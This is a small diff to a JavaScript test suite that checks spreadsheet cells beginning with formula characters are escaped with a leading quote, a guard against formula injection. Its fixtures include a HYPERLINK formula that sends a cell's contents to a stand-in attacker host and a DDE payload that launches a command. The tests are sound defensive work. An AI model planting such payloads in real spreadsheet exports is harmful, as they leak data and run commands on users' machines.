@@ -6,7 +6,7 @@ describe('spreadsheet cells', () => {
   it('puts a quote before text that a spreadsheet would run as a formula', () => {
     for (const [value, written] of [
       ['=HYPERLINK("http://attacker.example/?x="&A1,"Invoice")', `'=HYPERLINK("http://attacker.example/?x="&A1,"Invoice")`],
-      ['+1+cmd|\' /C calc\'!A0', `'+1+cmd|' /C calc'!A0`],
+      ["+1+cmd|' /C calc'!A0", `'+1+cmd|' /C calc'!A0`],
       ['-2+3', "'-2+3"],
       ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
       ['\t=1+1', "'\t=1+1"],
